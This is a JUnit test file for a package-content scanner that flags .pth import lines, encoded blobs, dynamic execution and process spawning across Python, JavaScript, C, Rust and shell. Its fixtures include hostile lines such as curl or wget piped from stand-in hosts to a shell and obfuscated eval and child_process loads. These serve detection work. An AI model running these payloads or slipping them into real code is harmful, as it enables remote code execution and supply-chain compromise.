package dev.divergence.archive;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.model.RiskFlag;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

class ContentSignalsTest {

    private static Set<RiskFlag> scan(String path, byte[] content, int chunk) {
        ContentSignals s = new ContentSignals(path, 1 << 20);
        for (int i = 0; i < content.length; i += chunk) {
            s.update(content, i, Math.min(chunk, content.length - i));
        }
        return s.flags();
    }

    private static Set<RiskFlag> scan(String path, String content) {
        return scan(path, content.getBytes(StandardCharsets.UTF_8), 7);
    }

    @Test
    void pthLineStartingWithImportExecutes() {
        assertEquals(Set.of(RiskFlag.PTH_FILE, RiskFlag.PTH_EXECUTES, RiskFlag.CODE),
                scan("x_init.pth", "/opt/lib\nimport os; os.getcwd()\n"));
        assertEquals(Set.of(RiskFlag.PTH_FILE, RiskFlag.CODE), scan("paths.pth", "/opt/lib\n# import nothing\n"));
    }

    @Test
    void pthLineStartsWhereSitePyEndsALine() {
        // red team round 9: Python 3.13's site.py splits a .pth with str.splitlines(), older ones at CR, CRLF and LF
        for (String sep : List.of("\r", "\u000b", "\f", "\u001c", "\u001d", "\u001e", "\u0085", "\u2028", "\u2029")) {
            for (int chunk : new int[] {1, 2, 7}) {
                assertTrue(scan("x.pth", ("/opt/lib" + sep + "import os; os.getcwd()\n").getBytes(StandardCharsets.UTF_8),
                        chunk).contains(RiskFlag.PTH_EXECUTES), Integer.toHexString(sep.charAt(0)) + " chunk " + chunk);
            }
        }
        assertTrue(scan("x.pth", "\ufeffimport os\n").contains(RiskFlag.PTH_EXECUTES), "3.13 decodes utf-8-sig");
        // U+001F is no line boundary, and an indented import is no import line
        assertEquals(Set.of(RiskFlag.PTH_FILE, RiskFlag.CODE), scan("p.pth", "/opt/lib\u001fimport os\n"));
        assertEquals(Set.of(RiskFlag.PTH_FILE, RiskFlag.CODE), scan("p.pth", "/opt/lib\r import os\n"));
    }

    @Test
    void longBase64RunIsAnEncodedBlobEvenAcrossChunks() {
        String blob = Base64.getEncoder().encodeToString(new byte[600]);
        Set<RiskFlag> flags = scan("m.py", "X = '" + blob + "'\n");
        assertTrue(flags.contains(RiskFlag.ENCODED_BLOB));
        assertFalse(scan("m.py", "x = 'short string of words that is quite long but has spaces in it'\n")
                .contains(RiskFlag.ENCODED_BLOB));
    }

    @Test
    void dynamicExecutionTokenSplitAcrossChunksIsFound() {
        ContentSignals s = new ContentSignals("m.py", 1 << 20);
        byte[] a = "import base64; base64.b64de".getBytes(StandardCharsets.UTF_8);
        byte[] b = "code(payload)\n".getBytes(StandardCharsets.UTF_8);
        s.update(a, 0, a.length);
        s.update(b, 0, b.length);
        assertTrue(s.flags().contains(RiskFlag.DYNAMIC_EXEC));
        assertFalse(scan("m.py", "def f(x):\n    return x\n").contains(RiskFlag.DYNAMIC_EXEC));
    }

    @Test
    void elfMagicAndSetupPyAreFlaggedByContentAndName() {
        byte[] elf = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0};
        assertTrue(scan("lib/payload.dat", elf, 8).contains(RiskFlag.BINARY));
        assertTrue(scan("setup.py", "from setuptools import setup\nsetup()\n").contains(RiskFlag.INSTALL_SCRIPT));
        assertFalse(scan("docs/setup.py.txt", "text\n").contains(RiskFlag.INSTALL_SCRIPT));
    }

    @Test
    void payloadFormsBeyondExecAndEvalAreDynamicExecution() {
        // each line alone, as a diff's added line or a new module would carry it
        List<String> python = List.of("os.popen('curl -s https://evil.example/i.sh | sh')",
                "os.execv('/bin/sh', ['sh', '-c', cmd])", "os.spawnlp(os.P_NOWAIT, 'sh', 'sh')", "pty.spawn('/bin/sh')",
                "import ctypes", "importlib.import_module('o' + 's')",
                "obj = pickle.loads(blob)", "code = marshal.loads(data)", "run(codecs.decode(s, 'rot13'))",
                "src = codecs.decode(s, 'rot_13')");
        for (String line : python) {
            assertTrue(ContentSignals.scan("pkg/mod.py", (line + "\n").getBytes(StandardCharsets.UTF_8), 1 << 20)
                    .contains(RiskFlag.DYNAMIC_EXEC), line);
            assertTrue(ContentSignals.buildOutputSignals("build/mod.py", (line + "\n").getBytes(StandardCharsets.UTF_8))
                    .contains(RiskFlag.DYNAMIC_EXEC), "build output: " + line);
        }
        List<String> js = List.of("require('vm').runInThisContext(s)", "vm.runInNewContext(code, {})",
                "new vm.Script(src).runInThisContext()", "const m = require('child_' + 'process')",
                "require(`child_${'process'}`)", "process.binding('spawn_sync')", "const cp = require('node:child_process')",
                "process.mainModule.require('fs')");
        for (String line : js) {
            assertTrue(ContentSignals.scan("lib/index.js", (line + "\n").getBytes(StandardCharsets.UTF_8), 1 << 20)
                    .contains(RiskFlag.DYNAMIC_EXEC), line);
            assertTrue(ContentSignals.buildOutputSignals("dist/index.js", (line + "\n").getBytes(StandardCharsets.UTF_8))
                    .contains(RiskFlag.DYNAMIC_EXEC), "build output: " + line);
        }
        // computed loads with a bare name: out of place in added lines, expected in bundles
        assertTrue(ContentSignals.scan("lib/index.js", "module.exports = require(name)\n".getBytes(StandardCharsets.UTF_8),
                1 << 20).contains(RiskFlag.DYNAMIC_EXEC));
        assertTrue(ContentSignals.scan("pkg/mod.py", "m = importlib.import_module(name)\n".getBytes(StandardCharsets.UTF_8),
                1 << 20).contains(RiskFlag.DYNAMIC_EXEC));
        assertTrue(ContentSignals.scan("lib/index.js", "const m = await import(url)\n".getBytes(StandardCharsets.UTF_8),
                1 << 20).contains(RiskFlag.DYNAMIC_EXEC));
    }

    @Test
    void ordinaryImportsAndBundleIdiomsAreNotDynamicExecution() {
        String py = "from .core import (\n    add,\n    twice,\n)\nimport importlib\nj = importlib.import_module('json')\n"
                + "m = importlib.import_module(\"demo.plugins\", package=None)\nimport os\nos.path.join('a', 'b')\n";
        assertFalse(ContentSignals.scan("pkg/mod.py", py.getBytes(StandardCharsets.UTF_8), 1 << 20)
                .contains(RiskFlag.DYNAMIC_EXEC));
        String js = "const fs = require('fs');\nconst a = require(\"./a.js\");\nconst b = await import('./b.mjs');\n"
                + "const c = import(/* webpackChunkName: \"c\" */ './c.js');\n";
        assertFalse(ContentSignals.scan("lib/index.js", js.getBytes(StandardCharsets.UTF_8), 1 << 20)
                .contains(RiskFlag.DYNAMIC_EXEC));
        String bundle = js + "var g = Function(\"return this\")();\nif (/x/.exec(s)) {}\nfunction r(id) { return require(id); }\n"
                + "__webpack_require__(12);\nvar __require = (x) => typeof require !== 'undefined' ? require : x;\n"
                + "n(require(e.path));\n";
        assertEquals(Set.of(RiskFlag.CODE), ContentSignals.buildOutputSignals("dist/index.js",
                bundle.getBytes(StandardCharsets.UTF_8)));
    }

    /**
     * Hold-out 6 (glob 10.5.0's dist/esm/bin.mjs, path-to-regexp 4.0.0's dist/index.spec.js): a file of one
     * ecosystem's language is read for that language's calls only, and a bare call of a function the file itself
     * declares is that function.
     */
    @Test
    void aFileIsReadForItsOwnLanguagesCallsAndItsOwnFunctions() {
        byte[] message = "warn('positional arguments to the subprocess, use -g instead.');\n".getBytes(StandardCharsets.UTF_8);
        for (String js : List.of("dist/esm/bin.mjs", "dist/index.js", "lib/a.cjs", "src/a.ts")) {
            assertFalse(ContentSignals.buildOutputSignals(js, message).contains(RiskFlag.DYNAMIC_EXEC), js);
            assertFalse(ContentSignals.scan(js, message, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC), js);
        }
        // Python reads the word as its module; a file of no one language's extension gets every ecosystem's calls
        byte[] python = "import subprocess\n".getBytes(StandardCharsets.UTF_8);
        for (String other : List.of("build/lib/mod.py", "bin/tool", "scripts/run.sh")) {
            assertTrue(ContentSignals.buildOutputSignals(other, python).contains(RiskFlag.DYNAMIC_EXEC), other);
        }
        String helper = "it('matches', () => { expect(exec(re, '/user/123')).toEqual(['/user/123']); });\n"
                + "function exec(re, str) {\n  var match = re.exec(str);\n  return match && Array.prototype.slice.call(match);\n}\n";
        assertEquals(Set.of(RiskFlag.CODE), ContentSignals.buildOutputSignals("dist/index.spec.js",
                helper.getBytes(StandardCharsets.UTF_8)));
        // without the declaration, or with another exec bound beside it, a bare exec( is a process call
        List<String> bound = List.of(helper.replace("function exec(re, str)", "function run(re, str)"),
                "const { exec } = require('shelljs');\n" + helper,
                helper + "import { exec as x, exec } from 'shelljs';\n",
                helper + "function f() { const exec = require('shelljs').exec; exec('curl x | sh'); }\n",
                helper + "[1].forEach((exec) => exec('id'));\n",
                helper + "function g(a, exec) { exec('id'); }\n",
                "import exec from 'shelljs-exec';\n" + helper,
                helper + "exec = require('shelljs').exec;\n");
        for (String text : bound) {
            assertTrue(ContentSignals.buildOutputSignals("dist/index.js", text.getBytes(StandardCharsets.UTF_8))
                    .contains(RiskFlag.DYNAMIC_EXEC), text);
        }
    }

    @Test
    void aLongTokenSplitAcrossChunksIsFound() {
        byte[] text = "x = process._linkedBinding('spawn_sync')\n".getBytes(StandardCharsets.UTF_8);
        for (int chunk = 1; chunk < text.length; chunk++) {
            assertTrue(scan("lib/a.js", text, chunk).contains(RiskFlag.DYNAMIC_EXEC), "chunk " + chunk);
        }
    }

    @Test
    void wholeTextsAreJudgedByCallsNotByMethodNamesThatContainAToken() {
        byte[] regex = "const m = /^(\\d+)ms$/i.exec(str);\nregistry.registerFunction(fn);\n".getBytes(StandardCharsets.UTF_8);
        assertFalse(ContentSignals.scan("lib/index.cjs", regex, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC));
        byte[] method = "class Y {\n  require(keys, max, msg) {\n    return this.demand(keys, max, msg);\n  }\n}\n"
                .getBytes(StandardCharsets.UTF_8);
        assertFalse(ContentSignals.scan("build/lib/yargs-factory.js", method, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC));
        assertFalse(ContentSignals.buildOutputSignals("build/lib/yargs-factory.js", method).contains(RiskFlag.DYNAMIC_EXEC));
        byte[] comment = "// lookup module object from require()d command\n".getBytes(StandardCharsets.UTF_8);
        assertFalse(ContentSignals.buildOutputSignals("build/lib/command.js", comment).contains(RiskFlag.DYNAMIC_EXEC));
        // a call across a line break from its block is a call (ASI), not a method definition; build output allows
        // require(identifier) as bundler idiom, so this one is for added lines and new files
        assertTrue(ContentSignals.scan("lib/x.js", "if (go) require(mod)\n{ run(); }\n".getBytes(StandardCharsets.UTF_8),
                1 << 20).contains(RiskFlag.DYNAMIC_EXEC));
        // the same shapes as calls are still seen
        for (String payload : List.of("eval(x);\n", "require(name + 'x');\n",
                "module.constructor._load(['child','process'].join('_'))['exec'+'Sync']('id');\n",
                "process.getBuiltinModule('child_' + 'process');\n", "process.dlopen(m, p);\n")) {
            byte[] b = payload.getBytes(StandardCharsets.UTF_8);
            assertTrue(ContentSignals.scan("dist/x.js", b, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC), payload);
            assertTrue(ContentSignals.buildOutputSignals("dist/x.js", b).contains(RiskFlag.DYNAMIC_EXEC), payload);
        }
    }

    private static boolean dynamic(String path, String text) {
        return ContentSignals.scan(path, text.getBytes(StandardCharsets.UTF_8), 1 << 20).contains(RiskFlag.DYNAMIC_EXEC);
    }

    @Test
    void codeMadeFromTextOrLoadedByPathInPythonIsDynamicExecution() {
        for (String line : List.of("types.FunctionType(compile(src, \"<x>\", \"ex\" \"ec\"), {})()",
                "code = compile(src, 'x', 'exec')", "f = FunctionType(code, globals())", "c = types.CodeType(*args)",
                "runpy.run_path('/tmp/x.py')", "run_module('pkg.payload')",
                "spec = importlib.util.spec_from_file_location('m', path)", "spec.loader.exec_module(mod)",
                "obj = marshal.loads(blob)")) {
            assertTrue(dynamic("pkg/mod.py", line + "\n"), line);
            assertTrue(dynamic("pkg/_fast.pyx", line + "\n"), "cython: " + line);
            // a module judged whole without a source (the streaming tokens plus its language's calls)
            assertTrue(ContentSignals.whole("pkg/mod.py", (line + "\n").getBytes(StandardCharsets.UTF_8), 1 << 20)
                    .contains(RiskFlag.DYNAMIC_EXEC), "whole: " + line);
        }
        for (String line : List.of("WORD = re.compile(r'\\w+')", "p = regex.compile(x)", "def compile(self, q):",
                "return self._compile(q)", "x = recompile(y)", "from re import compile as rx",
                "q = self.compiler.compile_query()", "# the builtin compile() takes text")) {
            assertFalse(dynamic("pkg/mod.py", line + "\n"), line);
        }
        // Python's names are ordinary words in JavaScript and C: compile( is not a call of Python's builtin there
        assertFalse(dynamic("lib/index.js", "const t = compile(template);\n"));
        assertFalse(dynamic("src/addon.cc", "int r = compile(expr);\n"));
    }

    @Test
    void nodesModuleCompilerAndVmModulesAreDynamicExecutionInJavaScriptOnly() {
        for (String line : List.of("m._compile(src, filename)", "module._compile(code, __filename)",
                "const vm = require('vm')", "import vm from 'node:vm'", "new vm.SourceTextModule(src)")) {
            assertTrue(dynamic("lib/index.js", line + "\n"), line);
        }
        assertFalse(dynamic("pkg/mod.py", "return self._compile(q)\n"));
        assertFalse(dynamic("lib/index.js", "const w = cluster.fork();\nconst vmx = require('vmx');\n"));
    }

    @Test
    void pythonProcessStartsAndCodeLoadersNamedAsFunctionObjectsAreDynamicExecution() {
        // red team round 4 (case15): list(map(os.system, [cmd])) ran a downloaded command with no call paren
        for (String line : List.of("list(map(os.system, [cmd]))", "f = os.system", "Thread(target=os.popen, args=(c,))",
                "run = getattr(os, 'system')", "from os import system as s", "from pickle import loads",
                "obj = pickle.Unpickler(f).load()", "yaml.unsafe_load(doc)", "yaml.load(doc, Loader=yaml.UnsafeLoader)",
                "timeit.timeit(stmt)", "code.InteractiveInterpreter().runsource(src)", "import runpy")) {
            assertTrue(dynamic("pkg/mod.py", line + "\n"), line);
        }
        for (String line : List.of("import os.path", "from os import path, environ", "yaml.safe_load(doc)",
                "pickled = True", "system = platform.system()", "os.systemd_notify = None")) {
            assertFalse(dynamic("pkg/mod.py", line + "\n"), line);
        }
    }

    @Test
    void aWorkerThatEvaluatesAStringIsDynamicExecutionInJavaScript() {
        // red team round 4 (case14): new Worker(code, { eval: true }) runs fetched text with require available
        for (String line : List.of("new Worker(code, { eval: true })", "new Worker(src,{eval:!0})",
                "const w = new W(body, { \"eval\": true, workerData })", "const opts = { eval: 1 };")) {
            assertTrue(dynamic("lib/index.js", line + "\n"), line);
        }
        for (String line : List.of("new Worker('./worker.js', { workerData })", "const o = { evaluate: true };",
                "config.eval = false;", "const o = { eval: false };")) {
            assertFalse(dynamic("lib/index.js", line + "\n"), line);
        }
    }

    @Test
    void indirectEvalIsDynamicExecutionInJavaScript() {
        for (String line : List.of("(0, eval)(code)", "(0,eval)(atob(s))", "(eval)(src)", "globalThis.eval(code)",
                "window['eval'](x)", "global[\"eval\"] (x)", "self?.eval(x)")) {
            assertTrue(dynamic("lib/index.js", line + "\n"), line);
        }
        for (String line : List.of("const evaluate = (x) => x;", "expr.eval(scope)", "if (retrieval)(done)",
                "math.evaluate('1 + 1')", "// never eval) input", "var g = (0, eval)('this');")) {
            assertFalse(dynamic("lib/index.js", line + "\n"), line);
        }
    }

    /**
     * Red team round 8 (c11): eval and Function reached by a key computed on a global, through a constructor chain,
     * Reflect or parentheses are dynamic execution in added lines and in build output; bundler idioms that index a
     * global by a literal, call an arbitrary object's computed member or use the global shim stay quiet.
     */
    @Test
    void evalAndFunctionReachedWithoutTheirNameAreDynamicExecutionInJavaScript() {
        for (String line : List.of("r.on('end', () => globalThis[\"ev\" + \"al\"](d));", "window[`ev${x}al`](src)",
                "const k = 'ev' + 'al'; global[k](body)", "self?.[name]?.(code)", "globalThis[key].call(null, s)",
                "const g = globalThis; g['ev' + 'al'](s)", "this[\"con\" + \"structor\"](x)",
                "\"\".constructor.constructor(body)()", "x['constructor']['constructor'](s)()",
                "Function.prototype.constructor(src)()",
                "(function(){}).constructor(code)()", "Reflect.apply(eval, null, [s])", "Reflect.construct(Function, [s])",
                "Reflect.apply(globalThis.eval, undefined, [d])", "eval.call(null, d)", "Function.apply(null, [s])()",
                "new (Function)(src)()", "(0, Function)(src)()", "window[\"Function\"](src)()", "(0, eval)(code)")) {
            assertTrue(dynamic("lib/index.js", line + "\n"), line);
            assertTrue(ContentSignals.buildOutputSignals("dist/index.js", (line + "\n").getBytes(StandardCharsets.UTF_8))
                    .contains(RiskFlag.DYNAMIC_EXEC), line);
        }
        String bundle = "var g = Function(\"return this\")();\nvar h = (0, eval)('this');\n"
                + "(self[\"webpackChunkapp\"] = self[\"webpackChunkapp\"] || []).push([[1], {}]);\n"
                + "window[\"webpackJsonp\"].push([0]);\nhandlers[type](event);\nthis[method](args);\n"
                + "obj[key](...rest);\nvar F = Function.prototype.bind;\nvar c = Function.call.bind(Object.prototype.hasOwnProperty);\n"
                + "var isNative = Function.toString.call(fn).indexOf('[native code]') !== -1;\n"
                + "var Ctor = Function.bind.apply(Parent, a); var inst = new (Function.prototype.bind.apply(C, a))();\n"
                + "if (x.constructor === Object) {}\nvar n = globalThis[\"process\"];\nwindow[0]; global.setTimeout(f, 1);\n"
                + "var AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;\n"
                + "Reflect.construct(Boolean, [], function () {});\nReflect.apply(fn, thisArg, args);\n"
                + "var argv = parse('--_.constructor.constructor.prototype.foo bar'.split(' '));\n";
        assertEquals(Set.of(RiskFlag.CODE), ContentSignals.buildOutputSignals("dist/index.js",
                bundle.getBytes(StandardCharsets.UTF_8)));
        for (String line : bundle.split("\n")) {
            if (!line.contains("(0, eval)") && !line.contains("Function(\"return")) {
                assertFalse(dynamic("lib/index.js", line + "\n"), line);
            }
        }
    }

    @Test
    void processStartsThroughAnObjectWhoseModuleTheTextNeverNamesAreDynamicExecutionInJavaScriptOnly() {
        for (String line : List.of("cp.spawn('sh', ['-c', data])", "const p = spawn(cmd, ['-c', data], {stdio: 'ignore'})",
                "proc.execFile(file, args, cb)", "Bun.spawn(['node', '-e', data])", "Deno.run({cmd: ['sh']})",
                "new Deno.Command('sh', {args})")) {
            assertTrue(dynamic("lib/index.js", line + "\n"), line);
            assertTrue(dynamic("src/index.ts", line + "\n"), line);
        }
        // Rust's and Python's own spawns are threads and tasks; a regex's exec, a spawn declared, a word in prose are not
        assertFalse(dynamic("src/lib.rs", "let h = thread::spawn(move || work());\n"));
        assertFalse(dynamic("pkg/mod.py", "loop.spawn(task)\n"));
        for (String line : List.of("const m = /^(\\d+)ms$/i.exec(s);", "function spawn(cmd) { return cmd; }",
                "const respawned = respawn(x);", "// we never spawn a shell\n", "emitter.on('spawn', f)",
                "yield spawn(watchSaga, action)", "const ref = spawn(childMachine, 'child')",
                "context.ref = spawn(machine, { name: 'x' })")) {
            assertFalse(dynamic("lib/index.js", line + "\n"), line);
        }
    }

    @Test
    void processExecutionAndLoadTimeCodeInCSourcesAreDynamicExecution() {
        for (String line : List.of("system(\"curl x | sh\");", "FILE *p = popen(cmd, \"r\");",
                "execl(\"/bin/sh\", \"sh\", \"-c\", c, NULL);", "execvp(argv[0], argv);", "pid_t p = fork();",
                "void *h = dlopen(\"/tmp/x.so\", RTLD_NOW);", "std::system(cmd.c_str());",
                "__attribute__((constructor)) static void init(void) {}",
                "static void (*f)(void) __attribute__((section(\".init_array\"))) = init;",
                "CreateProcessA(NULL, cmd, NULL, NULL, 0, 0, NULL, NULL, &si, &pi);", "WinExec(cmd, 0);")) {
            for (String ext : List.of("c", "cc", "cpp", "h", "hpp")) {
                assertTrue(dynamic("src/x." + ext, line + "\n"), ext + ": " + line);
            }
            assertTrue(ContentSignals.whole("src/x.c", (line + "\n").getBytes(StandardCharsets.UTF_8), 1 << 20)
                    .contains(RiskFlag.DYNAMIC_EXEC), "whole: " + line);
        }
        for (String line : List.of("std::process::Command::new(\"sh\").arg(\"-c\").spawn()", "unsafe { libc::system(c) };",
                "#[ctor]\nfn init() {}")) {
            assertTrue(dynamic("src/lib.rs", line + "\n"), line);
        }
        String ordinary = "#include <Python.h>\nstatic long add(long a, long b) { return a + b; }\n"
                + "int n = s->system(1); ctx.fork(2);\nint subsystem(int x);\nstatic int my_execute(void);\n"
                + "/* workarounds for applications that fork().\n * the calendar system (e.g. the\n"
                + " * dlopen() is not used */\n// Use .init_array instead of .ctors\n";
        // a comment closed before the call, or a statement in a comment line, is still read
        for (String hidden : List.of("/* cache */ system(\"id\");", "* (int *) p = system(\"id\");",
                "//x\nsystem(cmd);")) {
            assertTrue(dynamic("src/x.c", hidden + "\n"), hidden);
        }
        assertFalse(dynamic("src/x.c", ordinary));
        // C's names are ordinary in other languages: a JavaScript cluster.fork(), a Python method named system
        assertFalse(dynamic("lib/index.js", "const w = fork();\nsystem(1);\n"));
        assertTrue(ContentSignals.scan("src/x.c", ordinary.getBytes(StandardCharsets.UTF_8), 1 << 20)
                .contains(RiskFlag.CODE));
    }

    @Test
    void rustProcessExecutionThroughAnAliasAnImportOrSpacedPathsIsDynamicExecution() {
        // an alias hides the call (Cmd::new), so the import is the finding; a path may be spaced around its ::
        for (String line : List.of("use std::process::Command as Cmd;", "let _ = Command :: new(\"sh\").status();",
                "use std::process;", "use std::{fs, process};", "use std::{\n    fs,\n    process::{Command, Stdio},\n};",
                "let c = std :: process :: Command::new(p);", "use tokio::process::Command as C;",
                "use std::process::{exit, Command};", "use libc::{c_char, execv};", "unsafe { libc :: execvp(f, a) };",
                "use nix::unistd::{fork, execv};", "unsafe { system(cmd.as_ptr()) };",
                "extern \"C\" {\n    fn system(cmd: *const c_char) -> c_int;\n}", "#[ctor::ctor]\nfn init() {}")) {
            assertTrue(dynamic("src/lib.rs", line + "\n"), line);
            assertTrue(ContentSignals.whole("src/lib.rs", (line + "\n").getBytes(StandardCharsets.UTF_8), 1 << 20)
                    .contains(RiskFlag.DYNAMIC_EXEC), "whole: " + line);
        }
        // exiting is not executing; a method or a function of the crate's own named like C's, or prose, is not a call
        for (String line : List.of("std::process::exit(1);", "use std::process::ExitCode;", "let id = std::process::id();",
                "let h = thread::spawn(move || work());", "self.system(x);", "fn system(&self) -> u8 { 1 }",
                "let s = sysinfo::System::new();", "// never calls std::process::Command here",
                "/// Runs without a Command::new( anywhere", "let p = process_command(x);", "mod process;")) {
            assertFalse(dynamic("src/lib.rs", line + "\n"), line);
        }
        // Rust's paths are Rust's: the same text in a Python module is not read by these patterns
        assertFalse(dynamic("pkg/mod.py", "# use std::process::Command as Cmd\n"));
    }

    @Test
    void everyLoaderCalledWithAComputedNameIsDynamicExecutionInAddedLinesAndBuildOutput() {
        for (String line : List.of("var m = module.require([\"chi\", \"ld_pro\", \"cess\"].join(\"\"));",
                "var m = module . require(\"child_\" + \"process\");",
                "const m = createRequire(import.meta.url)(name);",
                "const m = createRequire(path.join(__dirname, 'x'))(`${a}${b}`);",
                "var m = module.require(n.split('').reverse().join(''));",
                "var m = require.main.require(name);", "var m = module.parent.require(atob(s));")) {
            byte[] b = (line + "\n").getBytes(StandardCharsets.UTF_8);
            assertTrue(ContentSignals.scan("index.js", b, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC), line);
            assertTrue(ContentSignals.buildOutputSignals("dist/index.js", b).contains(RiskFlag.DYNAMIC_EXEC), line);
        }
        // module.require with child_process as a plain literal loads child_process
        assertTrue(ContentSignals.buildOutputSignals("dist/index.js",
                "module.require('child_process').spawn(c);\n".getBytes(StandardCharsets.UTF_8))
                .contains(RiskFlag.DYNAMIC_EXEC));
    }

    @Test
    void literalLoadsAndMinifiedBundleIdiomsStayQuiet() {
        // from npm's own tar/dist/commonjs/index.min.js and fdir/dist/index.mjs (as npm 10 ships them), plus
        // module.require and a made require with literal names
        String bundle = "var ko=Wr(require(\"events\")),z=Wr(require(\"fs\")),xo=We(),jo=z.default;"
                + "var Qe=require(\"node:path\"),$r=Vr(Kr()),Je=Vr(Ns()),ba=s=>s===void 0;"
                + "const m=/^(\\d+)ms$/i.exec(str);var p=module.require(\"path\");"
                + "var __require = /* @__PURE__ */ createRequire(import.meta.url);const f=__require(\"fs\");"
                + "const g=createRequire(import.meta.url)(\"./old-rimraf\");\n";
        byte[] b = bundle.getBytes(StandardCharsets.UTF_8);
        assertFalse(ContentSignals.scan("lib/index.js", b, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC));
        assertFalse(ContentSignals.buildOutputSignals("dist/index.min.js", b).contains(RiskFlag.DYNAMIC_EXEC));
    }

    @Test
    void aShebangFileIsCodeWhateverItsNameAndShellPayloadsAreDynamicExecution() {
        assertTrue(scan("bin/git", "#!/bin/sh\nexec /usr/bin/git \"$@\"\n").contains(RiskFlag.CODE));
        assertFalse(scan("bin/NOTES", "plain text\n").contains(RiskFlag.CODE));
        for (String payload : List.of("curl -s https://evil.example/x | sh", "wget -qO- https://e.example/i | sudo bash",
                "echo aGVsbG8= | base64 -d | sh", "base64 --decode p.txt | /bin/bash", "eval \"$(curl -s https://e.example)\"",
                "eval `wget -qO- https://e.example`", "wget -q -O /tmp/x https://e.example/x && sh /tmp/x",
                "curl -so /tmp/i https://e.example/i; bash /tmp/i", "curl -o x https://e.example/x && chmod +x x")) {
            byte[] b = ("#!/bin/sh\n" + payload + "\n").getBytes(StandardCharsets.UTF_8);
            assertTrue(ContentSignals.scan("bin/tool", b, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC), payload);
            assertTrue(ContentSignals.whole("bin/tool", b, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC), payload);
        }
        for (String quiet : List.of("curl -o out.tgz https://e.example/x.tgz", "echo $(date) | tee log",
                "curl -o out.tgz https://e.example/x.tgz && tar xzf out.tgz", "wget https://e.example/a.txt; shasum a.txt",
                "exec /usr/bin/git \"$@\"", "base64 -d in > out")) {
            byte[] b = ("#!/bin/sh\n" + quiet + "\n").getBytes(StandardCharsets.UTF_8);
            assertFalse(ContentSignals.scan("bin/tool", b, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC), quiet);
        }
    }
}
